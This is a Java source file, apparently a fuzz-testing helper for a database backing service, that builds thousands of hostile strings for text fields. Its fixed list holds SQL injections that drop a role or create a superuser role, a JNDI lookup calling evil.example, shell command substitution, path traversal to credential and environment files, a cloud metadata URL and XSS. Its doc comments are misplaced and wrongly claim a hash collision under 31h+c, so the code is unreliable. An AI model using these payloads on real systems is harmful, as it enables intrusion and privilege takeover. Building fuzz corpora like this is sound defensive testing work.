package dev.backingservice;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// What somebody may write into a field of text. The same each time.
public final class HostileTexts {
  /// How many there are at least.
  public static final int COUNT = 5_000;

  private static final List<String> KNOWN =
      List.of(
          "",
          " ",
          "\t\n\r",
          "\0",
          "null",
          "true",
          "-1",
          "0",
          "9223372036854775808",
          "1e999",
          "NaN",
          "{}",
          "[]",
          "[null]",
          "{\"epoch\":null}",
          "[{\"epoch\":\"1\",\"since\":\"x\"}]",
          "{{password}}",
          "{password}",
          "{password:pct}",
          "{host}{port}{nothing}",
          "$1\\",
          "%00%0a%25",
          "%s%n%x",
          "'; DROP ROLE bs_admin; --",
          "\"; CREATE ROLE evil SUPERUSER; --",
          "$$;SELECT 1;$$",
          "E'\\x27'",
          "/*",
          "--",
          "a?sslmode=disable&sslfactory=x",
          "evil.example/postgres?user=x",
          "user:pass@evil.example:5432",
          "http://169.254.169.254/",
          "../../etc/passwd",
          "/bindings/../../proc/self/environ",
          "$(id)",
          "`id`",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "- a: &x [*x]",
          "!!javax.script.ScriptEngineManager []",
          "\u202egnp.exe",
          "\u2028\u2029",
          "\u001b[2J\u001b]0;pwned\u0007",
          "\ufeff",
          "e\u0301\u0327",
          "ﬀ",
          "İıſK",
          "𝒐𝒓𝒅𝒆𝒓𝒔",
          "👩‍👩‍👧‍👦",
          "٣",
          "１２３",
          "a".repeat(63),
          "a".repeat(64),
          "ä".repeat(32),
          "x".repeat(70_000),
          "pg_monitor",
          "public",
          "postgres",
          "LD_PRELOAD",
          "2026-13-45T99:99:99Z",
          "PT-1S",
          "99999h99999h99999h99999h",
          "bs_000000000000_orders_a",
          "backingservice.dev/finalizer");

  private static final String ALPHABET =
      "aZ09_-./:;,'\"`\\{}[]()<>$%&?=+*#@!|~^ \t\n\0\u00e4\u202e\u200d\u0130\u1f600";

  private HostileTexts() {}

  /// At least [#COUNT] texts: those known to have hurt somebody, their pairs, and mixtures.
  /// Names that differ and have one hash in every table that computes `31 h + c` or `33 h + c`
  /// alike for two pairs of characters.
  public static List<String> ofOneHash(int count) {
    var names = new ArrayList<String>();
    for (int i = 0; i < count; i++) {
      var name = new StringBuilder();
      for (int bit = 0; bit < 13; bit++) name.append((i >> bit & 1) == 0 ? "Ab" : "BA");
      names.add(name.toString());
    }
    return names;
  }

  public static List<String> all() {
    var all = new ArrayList<>(KNOWN);
    var random = new Random(42);
    for (var one : KNOWN) all.add(one + KNOWN.get(random.nextInt(KNOWN.size())));
    while (all.size() < COUNT) {
      var text = new StringBuilder();
      int length = random.nextInt(40);
      for (int i = 0; i < length; i++)
        text.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
      all.add(random.nextInt(4) == 0 ? text + KNOWN.get(random.nextInt(KNOWN.size())) : "" + text);
    }
    return all;
  }
}
